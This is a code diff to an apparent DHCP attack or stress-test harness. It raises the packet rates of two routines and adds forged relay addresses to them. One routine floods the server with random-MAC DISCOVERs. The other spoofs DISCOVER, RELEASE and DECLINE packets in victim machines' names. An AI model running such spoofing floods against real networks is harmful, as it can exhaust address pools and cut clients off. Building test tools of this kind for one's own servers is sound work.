@@ -22,26 +22,33 @@ internal static class PacketAttacks
         }, cancellation);
     }
 
-    /// <summary>DISCOVERs of random MAC addresses by a host that names itself a relay: every address of the pool in turn.</summary>
+    /// <summary>
+    /// DISCOVERs of random MAC addresses by a host that names itself a relay: addresses of the pool, and others that nobody has. More than
+    /// a relay may send.
+    /// </summary>
     public static async Task RelaysAsync(AttackTarget target, CancellationToken cancellation)
     {
         using var socket = DhcpPort.Open(target.Interface);
         var random = new Random(2);
-        await AttackTarget.PacedAsync(2000, async () =>
+        await AttackTarget.PacedAsync(6000, async () =>
         {
             var bytes = Packet(Stranger(random), DhcpPacket.Discover).ToBytes();
             // giaddr (RFC 2131 section 2).
-            new byte[] { 10, 77, (byte)random.Next(128, 256), (byte)random.Next(1, 255) }.CopyTo(bytes, 24);
+            new byte[] { 10, 77, (byte)random.Next(2, 256), (byte)random.Next(1, 255) }.CopyTo(bytes, 24);
             await SendAsync(target, socket, bytes, target.Server, 67, cancellation);
         }, cancellation);
     }
 
-    /// <summary>DISCOVERs of firmware, RELEASEs and DECLINEs in the name of machines that boot.</summary>
+    /// <summary>
+    /// DISCOVERs of firmware, RELEASEs and DECLINEs in the name of machines that boot: a few from their own link, and more than a card may
+    /// send by relays that are none.
+    /// </summary>
     public static async Task ForgedAsync(AttackTarget target, CancellationToken cancellation)
     {
         using var socket = DhcpPort.Open(target.Interface);
         var random = new Random(3);
-        await AttackTarget.PacedAsync(20, async () =>
+        var number = 0;
+        await AttackTarget.PacedAsync(800, async () =>
         {
             const byte Decline = 4, Release = 7;
             var mac = target.Victims[random.Next(target.Victims.Count)];
@@ -50,7 +57,9 @@ internal static class PacketAttacks
             var packet = type == DhcpPacket.Discover ? Packet(mac, type) : Packet(mac, type, Wanted(address));
             var bytes = packet.ToBytes();
             if (type == Release) address.CopyTo(bytes, 12);
-            await SendAsync(target, socket, bytes, IPAddress.Broadcast, 67, cancellation);
+            var isByRelay = number++ % 40 != 0;
+            if (isByRelay) new byte[] { 10, 77, (byte)random.Next(2, 256), (byte)random.Next(1, 255) }.CopyTo(bytes, 24);
+            await SendAsync(target, socket, bytes, isByRelay ? target.Server : IPAddress.Broadcast, 67, cancellation);
         }, cancellation);
     }
 
